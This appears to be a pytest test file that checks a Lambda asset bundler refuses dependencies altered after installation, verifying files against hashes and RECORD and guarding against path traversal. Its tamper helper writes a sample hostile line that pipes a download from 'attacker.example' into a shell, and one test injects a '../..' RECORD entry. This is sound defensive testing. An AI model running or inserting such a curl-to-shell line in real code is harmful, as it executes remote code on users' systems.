"""The Lambda asset's dependencies: pinned to one version everywhere, and verified by hash.

``lambda_src/requirements.txt`` pins crhelper and isodate with the sha256 of their wheels, and
``make`` installs it with ``--require-hashes``, so pip refuses any other file. Once installed,
the bundler copies each dependency's files only if they match the sha256 in the
distribution's RECORD. Here a copy of an installed dependency is tampered with in each way a
file can be, and bundling (directly, and through ``cdk synth``) must refuse, naming the file;
and the pins must agree in pyproject.toml, requirements.txt, the installed distributions and
the asset that synth bundles.
"""

from __future__ import annotations

import importlib.metadata
import re
import shutil
import tomllib
from pathlib import Path

import pytest
from end_to_end import REPO_ROOT, Declared, synthesize

from lookout_retraining.bundling import (
    BUNDLED_DISTRIBUTIONS,
    BundleSource,
    BundlingError,
    bundle_lambda_asset,
    project_pins,
)

TAMPERED_FILES = {"crhelper": "crhelper/resource_helper.py", "isodate": "isodate/isodates.py"}
REQUIREMENT = re.compile(r"^([A-Za-z0-9_.-]+)==(\S+)((?:\s+--hash=sha256:[0-9a-f]{64})+)\s*$")


def site_packages():
    return Path(str(importlib.metadata.distribution("crhelper").locate_file("")))


def copy_distribution(name, site):
    """Copy an installed distribution, RECORD included, into the folder ``site``."""
    distribution = importlib.metadata.distribution(name)
    for record in distribution.files or []:
        if record.parts[0] == ".." or "__pycache__" in record.parts:
            continue
        target = site / record.as_posix()
        target.parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(Path(str(record.locate())), target)


def tamper(path, how):
    if how == "appended":
        with path.open("a") as source:
            source.write("\nimport os; os.system('curl attacker.example | sh')\n")
    elif how == "same-size":
        content = path.read_bytes()
        path.write_bytes(content[:-2] + (b"#\n" if content[-2:] != b"#\n" else b"X\n"))
    elif how == "removed":
        path.unlink()
    elif how == "replaced-by-link":
        path.unlink()
        path.symlink_to(REPO_ROOT / "app.py")


@pytest.fixture
def tampered_site(tmp_path, request):
    """A site folder that holds a tampered copy of one dependency, found before the real one."""
    name, how = request.param
    site = tmp_path / "site"
    copy_distribution(name, site)
    tamper(site / TAMPERED_FILES[name], how)
    return name, site


CASES = [
    pytest.param((name, how), id=f"{name}-{how}")
    for name in TAMPERED_FILES
    for how in ("appended", "same-size", "removed", "replaced-by-link")
]


@pytest.mark.parametrize("tampered_site", CASES, indirect=True)
def test_bundle_dependency_file_tampered_after_install_refuses_naming_it(tampered_site, tmp_path):
    name, site = tampered_site
    source = BundleSource(search_path=[str(site), str(site_packages())])
    output = tmp_path / "asset"
    output.mkdir()

    with pytest.raises(BundlingError) as refused:
        bundle_lambda_asset(output, source)

    message = str(refused.value)
    assert message.startswith(f"{name}: ")
    assert TAMPERED_FILES[name].rsplit("/", 1)[-1] in message
    assert "RECORD" in message
    assert not (output / TAMPERED_FILES[name]).exists()


@pytest.mark.synth
def test_synth_with_tampered_dependency_fails_and_writes_no_asset(tmp_path):
    import aws_cdk as cdk

    from lookout_retraining.bundling import LocalBundler, handler_code

    site = tmp_path / "site"
    copy_distribution("crhelper", site)
    tamper(site / TAMPERED_FILES["crhelper"], "appended")
    bundler = LocalBundler(BundleSource(search_path=[str(site), str(site_packages())]))
    outdir = tmp_path / "cdk.out"

    def synthesize_function():
        app = cdk.App(outdir=str(outdir))
        stack = cdk.Stack(app, "Tampered")
        cdk.aws_lambda.Function(
            stack,
            "Handler",
            runtime=cdk.aws_lambda.Runtime.PYTHON_3_13,
            handler="index.handler",
            code=handler_code(bundler),
        )
        app.synth()

    with pytest.raises(
        Exception, match=r"crhelper: .*resource_helper\.py does not match its RECORD"
    ):
        synthesize_function()

    bundled = list(outdir.glob("asset.*/crhelper/resource_helper.py"))
    assert bundled == []


@pytest.mark.synth
def test_dependency_pins_agree_in_pyproject_requirements_installed_and_bundled_asset(tmp_path):
    pyproject = tomllib.loads((REPO_ROOT / "pyproject.toml").read_text())
    pyproject_pins = dict(
        requirement.split("==")
        for requirement in pyproject["project"]["dependencies"]
        if "==" in requirement
    )
    requirement_lines = [
        line
        for line in (REPO_ROOT / "lambda_src" / "requirements.txt")
        .read_text()
        .replace("\\\n", " ")
        .splitlines()
        if line.strip() and not line.startswith("#")
    ]
    matches = [REQUIREMENT.match(line) for line in requirement_lines]
    assert all(matches), requirement_lines
    requirement_pins = {match.group(1): match.group(2) for match in matches if match}
    installed = {name: importlib.metadata.version(name) for name in BUNDLED_DISTRIBUTIONS}
    app = synthesize(tmp_path / "app", "PinStack", [Declared("Pump", "pump-1")])
    (asset,) = [path for path in app.outdir.glob("asset.*") if path.is_dir()]
    bundled = {}
    for dist_info in asset.glob("*.dist-info"):
        metadata = (dist_info / "METADATA").read_text()
        name = re.search(r"(?m)^Name: (.+)$", metadata).group(1).strip().lower()
        bundled[name] = re.search(r"(?m)^Version: (.+)$", metadata).group(1).strip()
        assert dist_info.name == f"{name.replace('-', '_')}-{bundled[name]}.dist-info"

    assert set(BUNDLED_DISTRIBUTIONS) == set(requirement_pins) == set(pyproject_pins)
    assert pyproject_pins == requirement_pins == project_pins() == installed == bundled
    makefile = (REPO_ROOT / "Makefile").read_text()
    assert re.search(
        r"pip install .*--require-hashes.*-r lambda_src/requirements\.txt", makefile
    ), "make no longer installs the asset's dependencies with --require-hashes"


def test_bundle_record_entry_leading_outside_the_asset_writes_nothing_there(tmp_path):
    site = tmp_path / "site"
    copy_distribution("crhelper", site)
    outside = tmp_path / "outside.py"
    outside.write_text("print('written outside the asset')\n")
    record_file = next(site.glob("crhelper-*.dist-info")) / "RECORD"
    entry = record_line(outside, "crhelper/../../outside.py")
    record_file.write_text(record_file.read_text() + entry + "\n")
    output = tmp_path / "out" / "asset"
    output.mkdir(parents=True)

    written = bundle_lambda_asset(
        output, BundleSource(search_path=[str(site), str(site_packages())])
    )

    assert not [path for path in written if ".." in Path(path).parts]
    assert sorted(path.name for path in (tmp_path / "out").iterdir()) == ["asset"]
    assert all(output in path.resolve().parents for path in output.rglob("*"))


def record_line(path, entry):
    import base64
    import hashlib

    digest = base64.urlsafe_b64encode(hashlib.sha256(path.read_bytes()).digest()).rstrip(b"=")
    return f"{entry},sha256={digest.decode()},{path.stat().st_size}"
